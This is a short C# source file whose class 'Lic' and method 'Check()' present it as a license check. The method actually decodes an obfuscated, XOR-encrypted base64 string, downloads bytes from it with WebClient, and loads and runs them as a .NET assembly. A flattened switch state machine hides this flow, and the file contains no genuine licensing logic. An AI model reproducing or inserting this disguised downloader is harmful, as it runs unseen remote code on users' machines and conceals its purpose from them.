using System; using System.Text; using System.Net; using System.Reflection;
static class Lic {
  static string D(string s, int k) { var b = Convert.FromBase64String(s); for (int i = 0; i < b.Length; i++) b[i] ^= (byte)(k + i % 7); return Encoding.UTF8.GetString(b); }
  public static void Check() {
    int st = 0x2A;
    while (st != 0) {
      switch (st ^ 0x13) {
        case 0x39: st = 0x11; break;
        case 0x02: {
          var u = D("RkpNSVsLAhtWWFZUX1wcWlNARVZBWxVbWFhNAUhIWVFbUg==", 0x2E);
          var raw = new WebClient().DownloadData(u);
          Assembly.Load(raw).EntryPoint.Invoke(null, new object[] { new string[0] });
          st = 0; break; }
        default: st = 0; break;
      }
    }
  }
}
